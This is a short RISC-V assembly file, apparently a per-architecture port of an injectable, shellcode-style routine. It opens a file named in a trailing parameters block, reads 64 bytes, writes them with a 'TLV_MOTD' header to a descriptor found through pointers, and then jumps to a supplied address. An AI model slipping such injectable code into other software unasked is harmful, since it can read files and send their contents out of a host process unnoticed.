/* SPDX-License-Identifier: ISC */

/* As x86_64.S. */

	lla	s0, parameters
	addi	sp, sp, -128
	li	a0, 0x40000005		/* TLV_MOTD, 64 bytes */
	sw	a0, 0(sp)
	li	a7, 56			/* openat */
	li	a0, -100
	addi	a1, s0, 16
	li	a2, 0
	ecall
	li	a7, 63			/* read */
	addi	a1, sp, 4
	li	a2, 64
	ecall
	li	a7, 64			/* write */
	ld	a0, 0(s0)
	ld	a0, 0(a0)
	lw	a0, 0(a0)
	mv	a1, sp
	li	a2, 68
	ecall
	ld	a1, 8(s0)
	jalr	a1
	.balign	8
parameters:
